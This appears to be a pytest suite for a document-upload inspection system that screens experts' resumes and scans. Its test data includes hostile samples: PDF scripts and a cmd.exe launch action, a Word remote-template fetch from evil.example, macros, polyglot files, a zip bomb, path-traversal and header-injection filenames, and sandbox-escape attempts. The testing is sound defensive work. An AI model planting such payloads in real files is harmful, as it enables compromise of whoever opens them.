"""Files as people send them: what is taken, what is refused with which words, and that nothing is ever stuck."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from datetime import timedelta
from pathlib import Path

import pikepdf
import pytest
from django.core.files.storage import default_storage

from experts.credentials import actions
from experts.credentials.actions import documents
from experts.credentials.enums import DocumentKind, DocumentState
from experts.credentials.inspection import runner
from experts.credentials.inspection.pdf import inspect_pdf
from experts.credentials.inspection.picture import inspect_jpeg, inspect_png
from experts.credentials.inspection.verdict import FileRefused, Verdict, clean_text
from experts.credentials.inspection.word import inspect_docx
from experts.credentials.models import Document
from marketplace.kernel.errors import Invalid, NotAllowed, TooMany, WrongState
from marketplace.kernel.jobs import LEASE, MAX_ATTEMPTS, JobState
from marketplace.notices.models import Notification
from tests.factories.experts_credentials import (
    RESUME_LINES,
    docx_bytes,
    make_licence,
    make_resume,
    pdf_bytes,
    png_bytes,
    repacked,
    upload,
)
from tests.factories.experts_profiles import NOW, make_expert, make_person, make_vetter

pytestmark = pytest.mark.django_db
SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINKS = TEMPLATE.replace(b"attachedTemplate", b"hyperlink").replace(
    b"https://evil.example/t.dotm", b"mailto:me@example.org"
)


def checked(content: bytes, name: str, kind: str = DocumentKind.EVIDENCE) -> Document:
    document = upload(make_expert(), content, name, kind)
    assert document.state == DocumentState.QUARANTINED
    actions.check_document(document_id=document.pk, now=NOW)
    document.refresh_from_db()
    return document


def bomb() -> bytes:
    """A document of 60 kB that unpacks to 60 MB."""
    return repacked(docx_bytes("x"), {"word/media/padding.xml": b"0" * (60 << 20)})


def with_attachment() -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes("cv")))
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def zip_behind_a_pdf() -> bytes:
    out = io.BytesIO(pdf_bytes("cv"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("evil.js", "alert(1)")
    return out.getvalue()


def jpeg(tail: bytes = b"") -> bytes:
    frame = b"\xff\xc0\x00\x11\x08\x00\x10\x00\x10\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + frame
        + b"\xff\xda\x00\x02\x00\xff\xd9"
        + tail
    )


CLEAN = {
    "resume.docx": docx_bytes(*RESUME_LINES),
    "resume.pdf": pdf_bytes(*RESUME_LINES),
    "links.docx": repacked(docx_bytes("me"), {"word/_rels/settings.xml.rels": LINKS}),
    "opens-on-page-one.pdf": pdf_bytes("cv", OpenAction=pikepdf.Array([0, pikepdf.Name.Fit])),
    "scan.png": png_bytes(),
    "scan.jpg": jpeg(),
    "Scan.JPEG": jpeg(),
}
BAD = {
    "password.pdf": (pdf_bytes("cv", encryption=pikepdf.Encryption(owner="o", user="u")), "locked with a password"),
    "locked.pdf": (pdf_bytes("cv", encryption=pikepdf.Encryption(owner="o", user="")), "is locked"),
    "script-on-open.pdf": (pdf_bytes("cv", OpenAction=SCRIPT), "contains a script"),
    "launch-on-open.pdf": (pdf_bytes("cv", OpenAction=LAUNCH), "starts a program"),
    "script-by-name.pdf": (
        pdf_bytes("cv", Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", SCRIPT])))),
        "contains a script",
    ),
    "script-deep-inside.pdf": (pdf_bytes("cv", AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array(
        [pikepdf.Dictionary(AA=pikepdf.Dictionary(K=SCRIPT))]))), "contains a script"),
    "form.pdf": (pdf_bytes("cv", AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))), "runs scripts"),
    "attached.pdf": (with_attachment(), "attached file"),
    "also-a-zip.pdf": (zip_behind_a_pdf(), "also an archive"),
    "also-a-page.pdf": (b"%PDF-1.7\n<html><script>alert(1)</script>" + pdf_bytes("cv")[9:], "also holds a web page"),
    "cut-off.pdf": (pdf_bytes("cv")[:200], "no end"),
    "damaged.pdf": (b"%PDF-1.7\nnothing\n%%EOF", "damaged"),
    "tail.pdf": (pdf_bytes("cv") + b"A" * 2000, "appended"),
    "bomb.docx": (bomb(), "unpacks to far more"),
    "macro.docx": (repacked(docx_bytes("x"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "contains macros"),
    "template.docx": (repacked(docx_bytes("x"), {"word/_rels/settings.xml.rels": TEMPLATE}), "loads parts from elsewhere"),
    "object.docx": (repacked(docx_bytes("x"), {"word/embeddings/oleObject1.bin": b"x"}), "contains another file"),
    "nested.docx": (repacked(docx_bytes("x"), {"word/media/image1.png": b"PK\x03\x04zip"}), "contains another file"),
    "entities.docx": (
        repacked(docx_bytes("x"), {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "declares its own XML",
    ),
    "many-parts.docx": (repacked(docx_bytes("x"), {f"word/{n}.xml": b"<a/>" for n in range(201)}), "more than 200 parts"),
    "outside.docx": (repacked(docx_bytes("x"), {"../../evil.xml": b"<a/>"}), "point outside"),
    "spreadsheet.docx": (repacked(docx_bytes("x"), {"word/document.xml": None}), "not a Word document"),
    "broken-xml.docx": (repacked(docx_bytes("x"), {"word/document.xml": b"<w:document>"}), "damaged"),
    "cut-off.docx": (docx_bytes("x")[:4000], "damaged"),
    "huge.png": (png_bytes(50_000, 50_000), "too many pixels"),
    "appended.png": (png_bytes() + b"<?php evil ?>", "appended"),
    "damaged.png": (png_bytes()[:-6], "damaged"),
    "page-behind.jpg": (jpeg(b"<script>alert(1)</script>"), "also holds a web page"),
    "not-really.jpg": (b"\xff\xd8\xff nothing of a picture", "damaged"),
}  # fmt: skip


INSPECTORS = {"pdf": inspect_pdf, "docx": inspect_docx, "png": inspect_png, "jpg": inspect_jpeg, "jpeg": inspect_jpeg}


def look_into(content: bytes, name: str) -> str:
    """Inspect in this process, which is faster; some files go through the real child below."""
    return INSPECTORS[name.lower().rpartition(".")[2]](content)


@pytest.mark.parametrize("name", CLEAN)
def test_a_harmless_file_is_let_through(name):
    look_into(CLEAN[name], name)


@pytest.mark.parametrize("name", BAD)
def test_a_bad_file_is_refused_with_words_that_help(name):
    content, words = BAD[name]
    with pytest.raises(FileRefused) as refused:
        look_into(content, name)
    assert words in str(refused.value)
    assert any(tip in str(refused.value) for tip in ("send", "Send", "Save a copy"))


@pytest.mark.parametrize("name", ["resume.docx", "resume.pdf", "scan.png"])
def test_a_harmless_file_is_taken(name):
    document = checked(CLEAN[name], name)
    assert (document.state, document.refusal, document.job_state) == (DocumentState.CLEAN, "", JobState.DONE)
    assert default_storage.exists(document.file.name)


@pytest.mark.parametrize("name", ["script-on-open.pdf", "bomb.docx", "huge.png", "not-really.jpg"])
def test_nothing_is_left_behind_of_a_refused_file(name, django_capture_on_commit_callbacks):
    content, words = BAD[name]
    with django_capture_on_commit_callbacks(execute=True):
        document = checked(content, name)
    assert document.state == DocumentState.REFUSED
    assert words in document.refusal
    assert document.extracted_text == ""
    assert not default_storage.exists(document.file.name)
    assert Notification.objects.get(user=document.expert.user).body == document.refusal


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (b"", "empty.pdf", "0 bytes"),
        (b"%PDF-" + b"0" * (10 << 20), "large.pdf", "larger than 10 MB"),
        (b"<svg/>", "picture.svg", "not a kind of file"),
        (b"<svg/>", "picture.png", "content is something else"),
        (b"MZ", "resume.pdf.exe", "not a kind of file"),
        (pdf_bytes("cv"), "resume.docx", "content is something else"),
    ],
    ids=["empty", "large", "vector picture", "renamed vector picture", "program", "renamed PDF"],
)
def test_the_door_refuses_before_anything_is_kept(content, name, words):
    expert = make_expert()
    with pytest.raises(Invalid, match=words):
        upload(expert, content, name, DocumentKind.EVIDENCE)
    assert not Document.objects.exists()


def test_a_resume_is_no_picture():
    with pytest.raises(Invalid, match="not a kind of file"):
        upload(make_expert(), png_bytes(), "resume.png", DocumentKind.RESUME)


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\temp\\cv.pdf", "cv.pdf"),
        ("cv\u202efdp.pdf", "cvfdp.pdf"),
        ("cv\r\nX-Evil: 1.pdf", "cvX-Evil: 1.pdf"),
        ("x" * 194 + ".pdf", "x" * 180 + ".pdf"),
    ],
)
def test_a_hostile_name_is_shown_harmless_and_never_reaches_the_disk(sent, shown):
    document = upload(make_expert(), pdf_bytes("cv"), sent)
    assert document.original_name == shown
    folder, _, stored = document.file.name.partition("/")
    assert (folder, len(stored), stored.endswith(".pdf")) == ("documents", 44, True)
    assert "passwd" not in document.file.name


def test_the_text_of_a_resume_is_read_line_by_line():
    assert checked(CLEAN["resume.docx"], "resume.docx").extracted_text.splitlines() == list(RESUME_LINES)
    assert clean_text(look_into(CLEAN["resume.pdf"], "resume.pdf")).splitlines() == list(RESUME_LINES)


def test_a_scan_is_taken_and_has_no_text():
    assert clean_text(look_into(pdf_bytes(), "scan.pdf")) == ""


def test_text_is_kept_as_a_database_can_hold_it():
    assert clean_text("a\x00b\ud800 \n\n  c   d ") == "ab?\nc d"
    assert len(clean_text("x" * 300_000)) == 200_000


def test_a_file_whose_inspection_dies_is_refused(monkeypatch):
    monkeypatch.setattr(runner, "ROOT", Path("/"))  # where the child finds no code to run
    document = checked(pdf_bytes("cv"), "cv.pdf")
    assert document.state == DocumentState.REFUSED
    assert "cannot be opened safely" in document.refusal


def test_a_file_whose_inspection_takes_too_long_is_refused(monkeypatch):
    monkeypatch.setattr(runner, "WALL_SECONDS", 0.01)
    assert checked(pdf_bytes("cv"), "cv.pdf").state == DocumentState.REFUSED


def test_a_file_that_cannot_be_read_is_tried_again_and_at_last_refused():
    document = upload(make_expert(), pdf_bytes("cv"), "cv.pdf")
    default_storage.delete(document.file.name)
    now = NOW
    for attempt in range(1, MAX_ATTEMPTS + 1):
        document.refresh_from_db()
        assert (document.state, document.attempts) == (DocumentState.QUARANTINED, attempt - 1)
        actions.check_document(document_id=document.pk, now=now)
        now += timedelta(hours=2)
    document.refresh_from_db()
    assert (document.state, document.job_state) == (DocumentState.REFUSED, JobState.DONE)
    assert "the fault is ours" in document.refusal


def test_a_file_over_which_workers_die_is_refused_in_the_end():
    document = upload(make_expert(), pdf_bytes("cv"), "cv.pdf")
    late = NOW + LEASE + timedelta(seconds=1)
    Document.objects.filter(pk=document.pk).update(job_state=JobState.RUNNING, lease_until=NOW, attempts=MAX_ATTEMPTS)
    actions.check_document(document_id=document.pk, now=late)
    document.refresh_from_db()
    assert (document.state, document.job_state) == (DocumentState.REFUSED, JobState.DONE)


def test_who_looks_into_a_file_slower_than_their_lease_leaves_the_verdict_to_the_second():
    document = upload(make_expert(), pdf_bytes("cv"), "cv.pdf")
    mine = Document.objects.filter(pk=document.pk)
    mine.claim(now=NOW)
    slow = mine.get()
    mine.claim(now=NOW + LEASE + timedelta(seconds=1))
    second = mine.values().get()
    refusal = Verdict(is_clean=False, sentence="too slow to count")
    documents._record_verdict(Document.objects.held(by=slow), verdict=refusal, now=NOW)
    assert mine.values().get() == second
    documents._record_verdict(Document.objects.held(by=mine.get()), verdict=Verdict(is_clean=True), now=NOW)
    assert mine.values_list("state", "job_state").get() == (DocumentState.CLEAN, JobState.DONE)


def test_the_sweep_refuses_a_parked_file_so_that_nobody_waits():
    document = upload(make_expert(), pdf_bytes("cv"), "cv.pdf")
    Document.objects.filter(pk=document.pk).update(job_state=JobState.PARKED)
    assert actions.refuse_parked_documents(now=NOW) == 1
    assert actions.refuse_parked_documents(now=NOW) == 0
    document.refresh_from_db()
    assert document.state == DocumentState.REFUSED


def test_a_doubled_check_changes_nothing():
    document = make_resume(make_expert())
    actions.check_document(document_id=document.pk, now=NOW)
    document.refresh_from_db()
    assert (document.state, document.attempts) == (DocumentState.CLEAN, 1)


def test_a_refused_document_stands_behind_no_credential():
    expert = make_expert()
    licence = make_licence(expert)
    document = upload(expert, BAD["macro.docx"][0], "m.docx", DocumentKind.EVIDENCE, credential_id=licence.public_id)
    licence.refresh_from_db()
    assert licence.document == document
    actions.check_document(document_id=document.pk, now=NOW)
    licence.refresh_from_db()
    assert licence.document is None
    with pytest.raises(WrongState, match="refused"):
        actions.attach_document(
            credential_id=licence.public_id, document_id=document.public_id, by=expert.user, now=NOW
        )


def test_the_file_goes_when_its_row_cannot_be_written():
    expert = make_expert()
    stored = set(default_storage.listdir("documents")[1]) if default_storage.exists("documents") else set()
    with pytest.raises(NotAllowed):
        actions.upload_document(
            expert_id=expert.public_id, kind=DocumentKind.RESUME, by=make_person(), now=NOW,
            upload=upload_of(pdf_bytes("cv")),
        )  # fmt: skip
    assert set(default_storage.listdir("documents")[1]) == stored


def upload_of(content: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("cv.pdf", content)


def test_thirty_documents_are_enough(monkeypatch):
    monkeypatch.setattr("experts.credentials.actions.documents.MOST_DOCUMENTS", 1)
    expert = make_expert()
    upload(expert, pdf_bytes("a"), "a.pdf")
    with pytest.raises(TooMany):
        upload(expert, pdf_bytes("b"), "b.pdf")


def test_the_owner_deletes_file_and_text(django_capture_on_commit_callbacks):
    document = make_resume(make_expert())
    with pytest.raises(NotAllowed):
        actions.remove_document(document_id=document.public_id, by=make_vetter(), now=NOW)
    with django_capture_on_commit_callbacks(execute=True):
        actions.remove_document(document_id=document.public_id, by=document.expert.user, now=NOW)
    assert not Document.objects.exists()
    assert not default_storage.exists(document.file.name)


def test_a_file_is_opened_only_when_it_was_checked():
    expert = make_expert()
    document = upload(expert, pdf_bytes("cv"), "cv.pdf")
    with pytest.raises(WrongState, match="still being checked"):
        actions.open_document(document_id=document.public_id, by=expert.user, now=NOW)
    refused = checked(BAD["tail.pdf"][0], "tail.pdf")
    with pytest.raises(WrongState, match="refused and is gone"):
        actions.open_document(document_id=refused.public_id, by=make_vetter(), now=NOW)


@pytest.mark.parametrize(
    "deed",
    [
        "import socket; socket.create_connection(('127.0.0.1', 9))",
        "import subprocess; subprocess.run(['true'])",
        "import os; os.system('true')",
        "import os; os.execv('/bin/true', ['true'])",
        "open('/tmp/preceptor-inspection-wrote', 'wb').write(b'0' * (8 << 20))",
        "x = bytearray(2 << 30)",
    ],
)
def test_the_inspecting_process_can_neither_call_out_nor_start_nor_fill_anything(deed):
    code = (
        "from experts.credentials.inspection import __main__ as child; child.limit_self(); child.leave_the_network();"
        f" {deed}"
    )
    ended = subprocess.run([sys.executable, "-c", code], cwd=runner.ROOT, capture_output=True, text=True, check=False)
    assert ended.returncode != 0
    assert any(name in ended.stderr for name in ("PermissionError", "MemoryError", "OSError")) or ended.returncode < 0
    Path("/tmp/preceptor-inspection-wrote").unlink(missing_ok=True)


@pytest.mark.parametrize(
    "said",
    ["", "nonsense", "[]", "{}", '{"is_clean": true}', '{"is_clean": 1, "sentence": "", "text": ""}',
     '{"is_clean": false, "sentence": "", "text": ""}', '{"is_clean": true, "sentence": "", "text": 5}'],
)  # fmt: skip
def test_what_is_no_verdict_is_never_read_as_one(said):
    with pytest.raises(ValueError):
        Verdict.from_json(said)


def test_the_inspecting_process_sees_nothing_of_our_environment(monkeypatch, tmp_path):
    monkeypatch.setenv("DJANGO_SECRET_KEY", "do-not-hand-this-on")
    (tmp_path / "experts" / "credentials" / "inspection").mkdir(parents=True)
    spy = (
        "import os, json; print(json.dumps({'is_clean': False, 'text': '', 'sentence': ' '.join(sorted(os.environ))}))"
    )
    (tmp_path / "experts" / "credentials" / "inspection" / "__main__.py").write_text(spy)
    monkeypatch.setattr(runner, "ROOT", tmp_path)
    said = runner.inspect(io.BytesIO(b"x"), "pdf").sentence.split()
    assert set(said) <= {"LANG", "LC_CTYPE", "PATH", "PYTHONDONTWRITEBYTECODE"}
